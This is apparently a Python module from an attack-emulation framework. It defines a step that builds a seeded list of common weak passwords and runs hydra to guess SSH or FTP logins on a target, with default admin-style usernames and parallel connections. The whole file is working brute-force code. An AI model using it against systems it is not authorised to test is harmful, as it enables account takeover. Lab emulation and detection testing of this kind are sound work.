"""hydra: SSH and FTP password guessing against the victim."""

from __future__ import annotations

import random
from typing import Annotated, ClassVar, Literal

import msgspec

from jenga_edge.contract.typed import doc

from .base import USER, AttackStep, StepContext

# Common choices on public password lists; the step draws mutations of them.
WORDS = [
    "123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111", "1234567", "dragon",
    "123123", "baseball", "abc123", "football", "monkey", "letmein", "696969", "shadow", "master", "666666",
    "qwertyuiop", "123321", "mustang", "1234567890", "michael", "654321", "superman", "1qaz2wsx", "7777777",
    "121212", "000000", "qazwsx", "123qwe", "killer", "trustno1", "jordan", "jennifer", "zxcvbnm", "asdfgh",
    "hunter", "buster", "soccer", "harley", "batman", "andrew", "tigger", "sunshine", "iloveyou", "2000",
    "charlie", "robert", "thomas", "hockey", "ranger", "daniel", "starwars", "klaster", "112233", "george",
    "computer", "michelle", "jessica", "pepper", "1111", "zxcvbn", "555555", "11111111", "131313", "freedom",
    "777777", "pass", "maggie", "159753", "aaaaaa", "ginger", "princess", "joshua", "cheese", "amanda", "summer",
    "love", "ashley", "nicole", "chelsea", "biteme", "matthew", "access", "yankees", "987654321", "dallas",
    "austin", "thunder", "taylor", "matrix", "admin", "root", "toor", "changeme", "welcome", "raspberry",
    "ubuntu", "oracle", "test", "guest",
]  # fmt: skip


def wordlist(count: int, seed: int) -> list[str]:
    rng = random.Random(seed)
    out = list(WORDS[:count])
    while len(out) < count:
        w = rng.choice(WORDS)
        out.append(rng.choice([w.capitalize(), w + str(rng.randint(0, 99)), w + "!", w + str(rng.randint(1990, 2026))]))
    return out


class Step(AttackStep, tag="hydra", kw_only=True):
    binaries: ClassVar[tuple[str, ...]] = ("hydra",)

    target_service: Literal["ssh", "ftp"] = "ssh"
    users: Annotated[
        list[Annotated[str, msgspec.Meta(pattern=USER)]], doc("login names tried", min_length=1, max_length=50)
    ] = msgspec.field(default_factory=lambda: ["admin", "root", "test", "oracle", "user", "ubuntu"])
    passwords: Annotated[int, doc("passwords tried per login", ge=1, le=5000)] = 200
    tasks: Annotated[int, doc("parallel connections (-t)", ge=1, le=16)] = 4

    def needs(self) -> str | None:
        return self.target_service

    def command(self, ctx: StepContext) -> list[str]:
        ctx.dir.mkdir(parents=True, exist_ok=True)
        users, words = ctx.dir / "users.txt", ctx.dir / "passwords.txt"
        users.write_text("".join(f"{u}\n" for u in self.users))
        words.write_text("".join(f"{w}\n" for w in wordlist(self.passwords, ctx.seed)))
        return ["hydra", "-I", "-L", str(users), "-P", str(words), "-t", str(self.tasks), "-w", "10",
                "-o", str(ctx.dir / "found.txt"), f"{self.target_service}://{ctx.target_address}"]  # fmt: skip
